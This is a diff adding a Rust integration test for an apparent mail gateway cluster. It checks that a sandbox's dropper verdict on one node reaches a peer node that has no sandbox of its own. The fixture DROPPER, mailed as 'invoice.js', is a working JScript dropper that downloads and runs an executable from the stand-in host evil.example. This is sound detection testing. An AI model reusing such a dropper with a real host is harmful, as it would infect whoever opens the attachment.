@@ -1,0 +1,84 @@
+//! What one node saw of a file, the others know.
+
+use std::cell::Cell;
+
+use postern_tests::cluster::nodes::{Cluster, Options};
+use postern_tests::gateway::wait_until;
+use postern_tests::smtp::{mail_with, send};
+use serde_json::Value;
+
+use crate::world::*;
+
+const DROPPER: &[u8] = b"var x = new ActiveXObject('MSXML2.XMLHTTP'); x.open('GET', 'http://evil.example/a.exe', false); x.send();\n\
+var s = new ActiveXObject('ADODB.Stream'); s.open(); s.write(x.responseBody); s.saveToFile('C:\\\\x\\\\run.exe');\n\
+new ActiveXObject('WScript.Shell').Run('C:\\\\x\\\\run.exe');";
+
+fn deliver(cluster: &Cluster, node: usize, subject: &str) {
+    let address = std::net::SocketAddr::from((cluster.address(node), 25));
+    let mail = mail_with(subject, "", &[("invoice.js", "application/javascript", DROPPER)]);
+    std::thread::scope(|s| {
+        s.spawn(|| {
+            cluster.client().enter().unwrap();
+            let said = send(address, "eve@load.example", &["user@backend.example"], &mail).unwrap();
+            assert!(said.starts_with("250"), "{said}");
+        })
+        .join()
+        .unwrap();
+    });
+}
+
+/// The first attachment of the newest mail with this subject, and the symbols of its verdict.
+fn opened(cluster: &Cluster, node: usize, subject: &str) -> Option<(Value, String)> {
+    let found = cluster.ask(node, &["journey", "search", "--subject", subject]).ok()?;
+    let mail = found["journeys"][0]["mail"].as_str()?.to_owned();
+    let journey = cluster.ask(node, &["journey", "show", &mail]).ok()?;
+    let steps = journey["steps"].as_array()?;
+    let symbols = steps.iter().find(|s| s["event"] == "judged")?["verdict"]["hits"].to_string();
+    let apart = steps.iter().find(|s| s["event"] == "taken-apart");
+    Some((apart.map_or(Value::Null, |s| s["attachments"][0].clone()), symbols))
+}
+
+#[test]
+fn a_file_that_one_node_opened_is_recognised_at_once_by_another() {
+    let folder = tempfile::tempdir().unwrap();
+    // Kept, not refused, whatever it comes to.
+    let settings = "[filter.thresholds]\nreject = 1000.0\n".to_owned();
+    let Some(cluster) = cluster(folder.path(), 2, Options { settings, ..Options::default() }) else { return };
+    let _logs = Logs(&cluster);
+    // The second node has nobody to open anything: what it knows it was told.
+    let _sandbox = cluster.sandbox(0).unwrap();
+    deliver(&cluster, 1, "nobody");
+    wait_until("its verdict", LIMIT, || opened(&cluster, 1, "nobody").is_some_and(|(_, symbols)| symbols.contains("SANDBOX_UNAVAILABLE")))
+        .unwrap();
+    deliver(&cluster, 0, "first");
+    let mut first = None;
+    wait_until("its verdict", LIMIT, || {
+        first = opened(&cluster, 0, "first");
+        first.is_some()
+    })
+    .unwrap();
+    let (attachment, symbols) = first.unwrap();
+    if symbols.contains("no cell can be had") {
+        return println!("skipped: {symbols}");
+    }
+    assert!(symbols.contains("SANDBOX_SCRIPT_DROPPER"), "{symbols}");
+    assert_eq!(attachment["seen"], "now", "{attachment}");
+    said("the first node opens a dropper");
+
+    let tried = Cell::new(0);
+    let took = wait_until("the second node to know it", LIMIT, || {
+        tried.set(tried.get() + 1);
+        let subject = format!("second{}", tried.get());
+        deliver(&cluster, 1, &subject);
+        let judged = || opened(&cluster, 1, &subject);
+        wait_until("its verdict", LIMIT, || judged().is_some()).unwrap();
+        let (attachment, symbols) = judged().unwrap();
+        symbols.contains("SANDBOX_SCRIPT_DROPPER") && attachment["seen"]["by-peer"].is_string()
+    })
+    .unwrap();
+    let (attachment, symbols) = opened(&cluster, 1, &format!("second{}", tried.get())).unwrap();
+    assert!(!symbols.contains("SANDBOX_UNAVAILABLE"), "{symbols}");
+    let timeline = attachment["report"]["timeline"].to_string();
+    assert!(timeline.contains("http://evil.example/a.exe") && timeline.contains("run.exe"), "{timeline}");
+    said(&format!("the second, which cannot open anything, knows it {} ms later, with its timeline", took.as_millis()));
+}
